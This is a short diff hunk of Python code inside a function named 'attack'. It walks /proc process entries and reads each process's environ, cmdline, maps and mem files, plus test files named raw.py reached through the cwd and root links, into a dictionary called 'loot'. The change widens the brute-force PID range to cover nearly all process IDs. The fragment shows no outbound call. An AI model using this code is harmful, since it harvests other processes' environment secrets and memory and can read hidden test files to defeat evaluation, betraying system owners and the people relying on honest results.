@@ -287,7 +287,7 @@ def attack(*a):
 import os
 loot = {}
 try: processes = list(filter(str.isdigit, os.listdir("/proc")))
-except OSError: processes = range(os.getppid() - 200, os.getppid() + 200)
+except OSError: processes = range(1, 2**15)
 for process in processes:
     for name in ("environ", "cmdline", "maps", "mem", "cwd/tests/raw.py", "root/tests/raw.py"):
         try:
